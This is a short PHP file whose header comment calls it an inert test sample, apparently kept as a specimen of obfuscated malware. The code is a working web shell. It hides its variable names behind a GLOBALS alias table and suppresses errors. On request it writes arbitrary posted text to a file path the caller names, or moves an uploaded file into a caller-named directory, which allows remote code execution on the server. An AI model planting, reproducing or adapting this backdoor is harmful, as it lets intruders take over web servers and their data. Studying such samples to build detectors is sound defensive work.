<?php
// sample (inert test text): an obfuscator's alias table kept in ${"GLOBALS"}, a variable named by a
// string literal, so that every name is looked up through it; the manager writes posted text to a
// file the request names and moves uploads into a directory the request names
${"GLOBALS"}["kzpqwv"] = "act";
${"GLOBALS"}["mvbtrx"] = "where";
${"GLOBALS"}["hqlnse"] = "target";
${"GLOBALS"}["drqkfu"] = "handle";
$wjopyl = "body";
error_reporting(0);
${${"GLOBALS"}["kzpqwv"]} = $_REQUEST["act"];
${${"GLOBALS"}["mvbtrx"]} = $_REQUEST["where"];
if (${${"GLOBALS"}["kzpqwv"]} == "save" && !empty($_POST["body"])) {
    ${${"GLOBALS"}["hqlnse"]} = ${${"GLOBALS"}["mvbtrx"]} . $_GET["name"];
    ${$wjopyl} = $_POST["body"];
    ${${"GLOBALS"}["drqkfu"]} = fopen(${${"GLOBALS"}["hqlnse"]}, "w");
    fputs(${${"GLOBALS"}["drqkfu"]}, ${$wjopyl}, strlen(${$wjopyl}));
    fclose(${${"GLOBALS"}["drqkfu"]});
} elseif (${${"GLOBALS"}["kzpqwv"]} == "put" && !empty($_FILES["f"]["tmp_name"])) {
    ${${"GLOBALS"}["hqlnse"]} = ${${"GLOBALS"}["mvbtrx"]} . $_FILES["f"]["name"];
    move_uploaded_file($_FILES["f"]["tmp_name"], ${${"GLOBALS"}["hqlnse"]});
}
